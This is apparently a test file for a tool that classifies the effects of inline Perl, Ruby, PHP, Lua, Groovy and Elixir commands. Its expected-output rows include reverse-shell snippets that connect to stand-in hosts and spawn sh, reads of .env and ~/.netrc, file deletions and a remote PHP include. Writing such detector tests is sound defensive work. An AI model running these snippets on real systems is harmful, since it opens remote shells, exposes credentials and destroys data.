"""What the calls of script languages do: Perl here, the others by their tables."""

from __future__ import annotations

from tests.shell.rows import code_rows

test_rows = code_rows(
    "perl",
    r"""
system("rm x") => run perl [inline] · run rm x · write x [delete]
system("rm", "x") => run perl [inline] · run rm x · write x [delete]
exec 'rm x' => run perl [inline] · run rm x · write x [delete]
`rm x` => run perl [inline] · run rm x · write x [delete]
qx{rm x} => run perl [inline] · run rm x · write x [delete]
open(F, "<.env") => run perl [inline] · read .env
open(my $f, "<", ".env") => run perl [inline] · read .env
open(F, "rm x|") => run perl [inline] · run rm x · write x [delete]
unlink "x" => run perl [inline] · write x [delete]
eval "system('rm x')" => run perl [inline] · run rm x · write x [delete]
eval { die } => run perl [inline]
eval $x => run perl [inline] OPAQUE
print "system('rm x')" => run perl [inline]
s/a/system("rm x")/e => run perl [inline] OPAQUE
use LWP::Simple; get("https://a.example") => run perl [inline] · connect https://a.example
rmtree("x") => run perl [inline] · write x [delete,tree]
my $c = "rm x"; system($c) => run perl [inline] · run rm x · write x [delete]
do "x.pl" => run perl [inline] · read x.pl
syscall(59, "x") => run perl [inline] OPAQUE
use IO::Socket; IO::Socket::INET->new(PeerAddr=>"h.example", PeerPort=>1); exec("sh") => run perl [inline] · connect h.example · run sh <network:h.example>
connect(S, sockaddr_in(1, inet_aton("10.0.0.1"))); system("sh -i") => run perl [inline] · connect 10.0.0.1 · run sh -i <network:10.0.0.1>
open(P, "|sh"); print P "rm x" => run perl [inline] · run sh <unknown:code> OPAQUE
open(P, "ls|"); print <P> => run perl [inline] · run ls
open(P, "|-", "sort"); print P "a" => run perl [inline] · run sort
unlink("$ENV{HOME}/x") => run perl [inline] · write ~/x [delete]
open(F, "<$ENV{HOME}/.netrc") => run perl [inline] · read ~/.netrc
system("rm $x{a}/b $y->[0]") => run perl [inline] OPAQUE · run rm □/b □ · write □/b [delete] · write □ [delete]
""",
)

test_sockets_of_ruby = code_rows(
    "ruby",
    r"""
TCPSocket.new("h.example", 1) => run ruby [inline] · connect h.example
spawn("sh", [:in, :out]=>TCPSocket.new("h.example", 1)) => run ruby [inline] · connect h.example · run sh <network:h.example>
spawn("sh", in: sock) => run ruby [inline] · run sh
system("make", "test", exception: true) => run ruby [inline] · run make test [runner]
system("rm", x) => run ruby [inline] · run rm □ · write □ [delete]
""",
)

test_sockets_of_php = code_rows(
    "php",
    r"""
socket_connect($s, "10.0.0.1", 1); passthru("sh <&3"); => run php [inline] · connect 10.0.0.1 · run sh <network:10.0.0.1>
""",
)

test_sockets_of_lua = code_rows(
    "lua",
    r"""
t:connect("10.0.0.1", "1"); os.execute("sh <&3") => run lua [inline] · connect 10.0.0.1 · run sh <network:10.0.0.1>
""",
)

test_sockets_of_groovy = code_rows(
    "groovy",
    r"""
Socket s = new Socket("h.example", 1); new ProcessBuilder("sh").start() => run groovy [inline] · connect h.example · run sh <network:h.example>
""",
)

test_sockets_of_elixir = code_rows(
    "elixir",
    r"""
:gen_tcp.connect(~c"10.0.0.1", 1, []); System.cmd("sh", []) => run elixir [inline] · connect 10.0.0.1 · run sh <network:10.0.0.1>
""",
)

test_what_ruby_types = code_rows(
    "ruby",
    r"""
IO.popen("sh", "w") { |p| p.puts "rm x" } => run ruby [inline] · run sh <unknown:code> OPAQUE
IO.popen("ls") => run ruby [inline] · run ls
""",
)

test_what_php_types = code_rows(
    "php",
    r"""
$p = popen("sh", "w"); fwrite($p, "rm x"); => run php [inline] · run sh <unknown:code> OPAQUE
$p = popen("ls", "r"); echo fgets($p); => run php [inline] · run ls
include "http://e.example/x.php"; => run php [inline] OPAQUE · connect http://e.example/x.php
include "x.php"; => run php [inline] · read x.php
""",
)
